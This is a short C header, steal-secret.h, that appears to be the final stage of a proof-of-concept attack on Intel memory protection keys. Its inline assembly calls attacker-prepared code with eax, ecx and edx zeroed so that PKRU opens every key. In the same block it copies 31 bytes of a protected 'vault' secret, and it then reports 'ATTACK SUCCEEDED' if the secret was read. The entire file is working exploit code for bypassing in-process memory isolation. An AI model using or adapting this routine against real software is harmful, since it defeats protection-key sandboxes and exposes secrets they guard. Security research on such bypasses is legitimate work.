/* steal-secret.h - the end of an attack that has made code writing PKRU
 * from eax, ecx and edx and returning: the call with all three 0 (every
 * key open), and the copy of the secret's first 31 bytes in the same
 * breath (a C call would have its rights put back after it). Says whether
 * the secret came out. */
#ifndef STEAL_SECRET_H
#define STEAL_SECRET_H
#include <stdio.h>
#include <string.h>

static void steal_secret(void *code, const char *secret) {
  static char copy[32];
  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\t"
                   "xorl %%edx, %%edx\n\tcall *%0\n\t"
                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\t"
                   "movl $31, %%ecx\n\trep movsb"
                   :
                   : "r"(code), "r"(secret), "r"(copy)
                   : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10",
                     "r11", "memory");
  if (strstr(copy, "TOP-SECRET"))
    printf("ATTACK SUCCEEDED: the vault's secret read: %s\n", copy);
  else
    printf("attack failed\n");
}
#endif
